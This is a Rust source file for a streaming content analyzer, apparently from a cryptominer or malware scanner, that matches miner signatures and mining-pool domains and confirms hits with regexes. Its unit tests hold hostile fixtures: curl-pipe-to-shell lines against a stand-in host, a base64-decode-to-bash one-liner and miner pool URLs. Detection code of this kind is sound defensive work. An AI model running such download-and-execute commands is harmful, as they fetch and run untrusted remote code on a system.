//! Content analyzer: every regular file's bytes go through ONE literal search
//! ([`crate::signatures::literals::LiteralSet`]) that holds every literal signature and
//! every pool domain. Literals that are not enough on their own carry a `confirm` regex,
//! run only on the line around a hit. The scan streams over the walker's chunks: a window
//! of `max_literal_len + 256` bytes is carried from one chunk to the next, so a match that
//! straddles a chunk boundary is found exactly once, and regex confirmation sees up to 256
//! bytes either side of the hit.
//!
//! The search is leftmost-longest and non-overlapping: a literal wholly inside a longer
//! one at the same place (`xmrig` inside `Usage: xmrig [OPTIONS]`) is reported as the
//! longer one only.
//!
//! Memory per file is bounded: one hit (the first) per signature is kept.
//!
//! Time is bounded too: a failed confirmation is remembered (per signature, the absolute
//! window it searched), and a later hit whose window lies inside it is not searched again.
//! Without that, a line of a million `| sh` would run the dropper regex over 512 bytes a
//! million times. (A window inside a searched one can only match where the larger one did
//! not through an assertion at its cut edge, `\b` or `^`; the confirm regexes anchor on
//! words inside the line, so nothing real is lost.)

use super::{Analyzer, FileCtx, Signal, SignalKind, Subject};
use crate::signatures::{PatternRef, Signatures};
use std::sync::Arc;

/// Context kept either side of a hit for confirmation and excerpts.
const CTX: usize = 256;
/// How far past a hit a confirm regex searches (within the line), so that one failed
/// search clears the decoys that follow it.
const EXTEND: usize = 16 << 10;

/// A hit of one pattern key in the current file.
#[derive(Debug, Clone)]
struct Hit {
    key: PatternRef,
    kind: SignalKind,
    signature: String,
    offset: u64,
    excerpt: String,
}

/// Streaming matcher state for one file; reusable across files.
pub struct Matcher {
    sigs: Arc<Signatures>,
    buf: Vec<u8>,
    /// Absolute file offset of `buf[0]`.
    base: u64,
    /// Index in `buf` from which match starts have not been handled yet.
    from: usize,
    is_binary: bool,
    hits: Vec<Hit>,
    /// Port signals derived from `host:port` after pool domains.
    ports: Vec<Hit>,
    /// Scratch for the literal matches of one window.
    found: Vec<crate::signatures::literals::Found>,
    /// The last window (absolute offsets) each signature's confirm regex searched in vain.
    failed: Vec<(PatternRef, u64, u64)>,
    /// Confirm regex runs in this file (bounded by the memo above; tests read it).
    confirm_runs: u64,
}

impl Matcher {
    pub fn new(sigs: Arc<Signatures>) -> Matcher {
        Matcher {
            sigs,
            buf: Vec::new(),
            base: 0,
            from: 0,
            is_binary: false,
            hits: Vec::new(),
            ports: Vec::new(),
            found: Vec::new(),
            failed: Vec::new(),
            confirm_runs: 0,
        }
    }

    /// Start a new file.
    pub fn reset(&mut self, is_binary: bool) {
        self.buf.clear();
        self.base = 0;
        self.from = 0;
        self.is_binary = is_binary;
        self.hits.clear();
        self.ports.clear();
        self.failed.clear();
        self.confirm_runs = 0;
    }

    fn keep(&self) -> usize {
        self.sigs.max_literal_len + CTX
    }

    /// Feed the next bytes of the file.
    ///
    /// Only a seam is copied: the carried tail of the previous chunk plus the first
    /// `keep + CTX` bytes of this one, so matches near the boundary see their context on
    /// both sides. The rest of the chunk is searched where it lies, and its last
    /// `keep + CTX` bytes become the next carry. Every match start is handled exactly once,
    /// as if the file were one buffer.
    pub fn feed(&mut self, data: &[u8]) {
        let keep = self.keep();
        let seam = data.len().min(keep + CTX);
        let carried = self.buf.len();
        self.buf.extend_from_slice(&data[..seam]);
        if seam == data.len() {
            if self.buf.len() > keep + self.from {
                let limit = self.buf.len() - keep;
                self.process(limit);
                self.compact(limit);
            }
            return;
        }
        // Starts up to `CTX` into `data`: their context after is in the seam.
        let limit = self.buf.len() - keep;
        self.process(limit);
        // Starts from `CTX` to `len - keep` of `data`, in place: `CTX` bytes before and
        // `keep` after are in `data` itself.
        let base = self.base + carried as u64;
        let end = data.len() - keep;
        let buf = std::mem::take(&mut self.buf);
        let (saved_base, saved_from) = (self.base, self.from);
        self.base = base;
        self.process_in(data, CTX, end);
        self.base = saved_base;
        self.from = saved_from;
        // The carry: the last `keep + CTX` bytes; handled up to `CTX` into it.
        let mut buf = buf;
        buf.clear();
        let tail = end - CTX;
        buf.extend_from_slice(&data[tail..]);
        self.buf = buf;
        self.base = base + tail as u64;
        self.from = CTX;
    }

    /// Drop what no later match can need: everything up to `CTX` before `limit`.
    fn compact(&mut self, limit: usize) {
        let drop = limit.saturating_sub(CTX);
        self.buf.drain(..drop);
        self.base += drop as u64;
        self.from = limit - drop;
    }

    /// The file ended: handle what is left.
    pub fn finish(&mut self) {
        let limit = self.buf.len();
        if limit > self.from {
            self.process(limit);
        }
        self.from = limit;
    }

    /// Handle every match that starts in `buf[from..limit]`.
    fn process(&mut self, limit: usize) {
        let buf = std::mem::take(&mut self.buf);
        self.process_in(&buf, self.from, limit);
        self.buf = buf;
        self.from = limit;
    }

    /// Handle every match that starts in `buf[from..limit]`, where `buf[0]` is at file
    /// offset `self.base`.
    fn process_in(&mut self, buf: &[u8], from: usize, limit: usize) {
        let sigs = Arc::clone(&self.sigs);
        let end = (limit + sigs.max_literal_len).min(buf.len());
        let mut found = std::mem::take(&mut self.found);
        sigs.literals.find_all(&buf[from..end], &mut found);
        for &(p, s, e) in &found {
            let (s, e) = (from + s, from + e);
            if s >= limit {
                break;
            }
            let key = sigs.patterns[p];
            if self.hits.iter().any(|h| h.key == key) {
                continue;
            }
            if let Some(hit) = self.check(&sigs, buf, key, s, e) {
                self.hits.push(hit);
            }
        }
        self.found = found;
    }

    fn check(
        &mut self,
        sigs: &Signatures,
        buf: &[u8],
        key: PatternRef,
        s: usize,
        e: usize,
    ) -> Option<Hit> {
        match key {
            PatternRef::String(i) => {
                let sig = &sigs.strings[i];
                if sig.binary_only && !self.is_binary {
                    return None;
                }
                let excerpt = match &sig.confirm {
                    Some(re) => {
                        // The line around the hit, at most CTX bytes either side; the
                        // search goes on to EXTEND bytes past the hit (still within the
                        // line) so a run of decoys costs one search per EXTEND bytes.
                        let lo = memchr::memrchr(b'\n', &buf[s.saturating_sub(CTX)..s])
                            .map(|p| s.saturating_sub(CTX) + p + 1)
                            .unwrap_or(s.saturating_sub(CTX));
                        let ext = buf.len().min(e + EXTEND);
                        let ext_hi = memchr::memchr(b'\n', &buf[e..ext]).map_or(ext, |p| e + p);
                        let hi = ext_hi.min(e + CTX);
                        let (abs_lo, abs_hi) = (self.base + lo as u64, self.base + hi as u64);
                        let seen = self.failed.iter().position(|f| f.0 == key);
                        if let Some(i) = seen {
                            let (_, flo, fhi) = self.failed[i];
                            if flo <= abs_lo && abs_hi <= fhi {
                                return None;
                            }
                        }
                        self.confirm_runs += 1;
                        let found = re.find(&buf[lo..ext_hi]);
                        // No match starts before `clear`: windows inside [lo, clear) fail.
                        let clear = match &found {
                            Some(m) if lo + m.start() < hi => None,
                            Some(m) => Some(lo + m.start()),
                            None => Some(ext_hi),
                        };
                        if let Some(clear) = clear {
                            let f = (key, abs_lo, self.base + clear as u64);
                            match seen {
                                Some(i) => self.failed[i] = f,
                                None => self.failed.push(f),
                            }
                            return None;
                        }
                        let m = found?;
                        crate::findings::excerpt(m.as_bytes(), 160)
                    }
                    None => super::line_excerpt(buf, s, e, 60),
                };
                Some(Hit {
                    key,
                    kind: SignalKind::Literal {
                        category: sig.category,
                        strength: sig.strength,
                    },
                    signature: sig.id.clone(),
                    offset: self.base + s as u64,
                    excerpt,
                })
            }
            PatternRef::Domain(i) => {
                let hostch = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
                if s > 0 && hostch(buf[s - 1]) {
                    return None;
                }
                if e < buf.len() && hostch(buf[e]) {
                    return None;
                }
                if e + 1 < buf.len() && buf[e] == b'.' && buf[e + 1].is_ascii_alphanumeric() {
                    return None;
                }
                let hs = buf[..s]
                    .iter()
                    .rposition(|&b| !(hostch(b) || b == b'.'))
                    .map(|p| p + 1)
                    .unwrap_or(0)
                    .max(s.saturating_sub(64));
                let mut he = e;
                let mut port = None;
                if he < buf.len() && buf[he] == b':' {
                    let digits = buf[he + 1..]
                        .iter()
                        .take(5)
                        .take_while(|b| b.is_ascii_digit())
                        .count();
                    if digits > 0 {
                        port = std::str::from_utf8(&buf[he + 1..he + 1 + digits])
                            .ok()
                            .and_then(|p| p.parse::<u16>().ok());
                        he += 1 + digits;
                    }
                }
                let excerpt = crate::findings::excerpt(&buf[hs..he], 120);
                if let Some(p) = port.filter(|p| sigs.ports.contains(p)) {
                    self.ports.push(Hit {
                        key,
                        kind: SignalKind::PoolPort,
                        signature: format!("pool-port:{p}"),
                        offset: self.base + e as u64,
                        excerpt: excerpt.clone(),
                    });
                }
                Some(Hit {
                    key,
                    kind: SignalKind::PoolDomain,
                    signature: format!("pool-domain:{}", sigs.domains[i].domain),
                    offset: self.base + hs as u64,
                    excerpt,
                })
            }
        }
    }

    /// The signals found in the file so far (call after [`Matcher::finish`]).
    pub fn signals(&self, subject: &Subject) -> impl Iterator<Item = Signal> + '_ {
        let subject = subject.clone();
        self.hits
            .iter()
            .chain(self.ports.iter())
            .map(move |h| Signal {
                line: None,
                subject: subject.clone(),
                kind: h.kind,
                signature: h.signature.clone(),
                offset: Some(h.offset),
                excerpt: h.excerpt.clone(),
            })
    }
}

/// Scan one in-memory text (a command line, an env value, a history step) with the same
/// automaton and confirmation as files.
pub fn scan_text(sigs: &Arc<Signatures>, text: &str, subject: &Subject) -> Vec<Signal> {
    let mut m = Matcher::new(Arc::clone(sigs));
    m.reset(false);
    m.feed(text.as_bytes());
    m.finish();
    m.signals(subject).collect()
}

/// The content analyzer: wants every regular file with content.
pub struct ContentAnalyzer {
    matcher: Matcher,
}

impl ContentAnalyzer {
    pub fn new(sigs: Arc<Signatures>) -> Self {
        ContentAnalyzer {
            matcher: Matcher::new(sigs),
        }
    }
}

impl Analyzer for ContentAnalyzer {
    fn name(&self) -> &'static str {
        "content"
    }
    fn file_start(&mut self, file: &FileCtx) -> bool {
        if file.head.is_empty() {
            return false;
        }
        self.matcher.reset(file.is_binary());
        true
    }
    fn file_chunk(&mut self, data: &[u8], _offset: u64) {
        self.matcher.feed(data);
    }
    fn file_end(&mut self, file: &FileCtx, _truncated: bool, out: &mut Vec<Signal>) {
        if file.head.is_empty() {
            return;
        }
        self.matcher.finish();
        out.extend(self.matcher.signals(&file.subject()));
        self.matcher.reset(false);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sigs() -> Arc<Signatures> {
        Arc::new(Signatures::embedded().unwrap())
    }

    fn run(data: &[u8], chunk: usize, binary: bool) -> Vec<(String, u64, String)> {
        let mut m = Matcher::new(sigs());
        m.reset(binary);
        for c in data.chunks(chunk.max(1)) {
            m.feed(c);
        }
        m.finish();
        let subj = Subject::History { step: 0 };
        let mut v: Vec<_> = m
            .signals(&subj)
            .map(|s| (s.signature, s.offset.unwrap(), s.excerpt))
            .collect();
        v.sort();
        v
    }

    #[test]
    fn finds_literals_across_chunk_boundaries_at_every_split() {
        let mut data = vec![b'a'; 3000];
        data.extend_from_slice(b"\nUsage: xmrig [OPTIONS]\n");
        data.extend(std::iter::repeat_n(b'b', 500));
        data.extend_from_slice(b" url stratum+tcp://pool.minexmr.com:4444 ");
        let whole = run(&data, data.len(), false);
        let ids: Vec<&str> = whole.iter().map(|h| h.0.as_str()).collect();
        assert_eq!(
            ids,
            [
                "pool-domain:minexmr.com",
                "pool-port:4444",
                "stratum-tcp-url",
                "xmrig-usage"
            ]
        );
        // Any chunking finds everything the whole-buffer scan finds, at the same offsets
        // (at a boundary it may also report a literal nested in a longer one).
        for chunk in [1, 7, 64, 300, 600, 1000, 1777, 3010, 3020] {
            let split = run(&data, chunk, false);
            for h in &whole {
                assert!(
                    split.contains(h),
                    "chunk size {chunk}: {h:?} missing from {split:?}"
                );
            }
        }
        let usage = whole.iter().find(|h| h.0 == "xmrig-usage").unwrap();
        assert_eq!(usage.1, 3001);
        let dom = whole
            .iter()
            .find(|h| h.0.starts_with("pool-domain"))
            .unwrap();
        assert_eq!(dom.2, "pool.minexmr.com:4444");
    }

    #[test]
    fn confirmation_regex_decides() {
        let hit = run(
            b"#!/bin/sh\ncurl -fsSL http://x.example/a.sh | sh\n",
            5,
            false,
        );
        assert!(hit.iter().any(|h| h.0 == "download-pipe-shell"), "{hit:?}");
        let miss = run(
            b"#!/bin/sh\ncat README | sha256sum\nls | sh_helper\n",
            5,
            false,
        );
        assert!(
            !miss.iter().any(|h| h.0 == "download-pipe-shell"),
            "{miss:?}"
        );
        let b64 = run(b"echo ZWNobyBoaQ== | base64 -d | bash", 4096, false);
        assert!(b64.iter().any(|h| h.0 == "base64-pipe-shell"), "{b64:?}");
    }

    /// A line of a million decoys (`| sh` with no downloader before it) costs a few
    /// regex runs, not one per decoy; a real dropper after the decoys, on the same line
    /// or the next, is still confirmed.
    #[test]
    fn decoy_runs_do_not_rerun_the_confirm_regex_per_hit() {
        let decoys = b"| sh ".repeat(200_000);
        let mut m = Matcher::new(sigs());
        m.reset(false);
        for c in decoys.chunks(256 << 10) {
            m.feed(c);
        }
        m.finish();
        let per_window = (decoys.len() / EXTEND) as u64 + 1;
        assert!(
            m.confirm_runs <= 2 * per_window + 8,
            "{} confirm runs for {} decoys",
            m.confirm_runs,
            200_000
        );
        assert!(m.signals(&Subject::History { step: 0 }).next().is_none());

        for tail in [
            &b" curl -fsSL http://x.example/a | sh"[..],
            b"\ncurl http://x.example/a | sh",
        ] {
            let mut data = b"| sh ".repeat(50_000);
            data.extend_from_slice(tail);
            for chunk in [4096, 256 << 10] {
                let hit = run(&data, chunk, false);
                assert!(
                    hit.iter().any(|h| h.0 == "download-pipe-shell"),
                    "chunk {chunk}: {hit:?}"
                );
            }
        }
    }

    #[test]
    fn domains_need_label_boundaries_and_binary_only_sigs_need_binaries() {
        let miss = run(b"notminexmr.com minexmr.com.example.org", 4096, false);
        assert!(miss.is_empty(), "{miss:?}");
        let hit = run(b"host=xmr-eu1.nanopool.org", 4096, false);
        assert_eq!(hit[0].0, "pool-domain:nanopool.org");
        assert!(run(b"UPX! in a text file", 4096, false).is_empty());
        assert_eq!(run(b"UPX! in a binary", 4096, true)[0].0, "upx-marker");
    }

    #[test]
    fn clean_text_has_no_hits() {
        let text = b"#!/bin/sh\nset -e\napt-get update && apt-get install -y nginx\nexec nginx -g 'daemon off;'\n";
        assert!(run(text, 16, false).is_empty());
    }
}
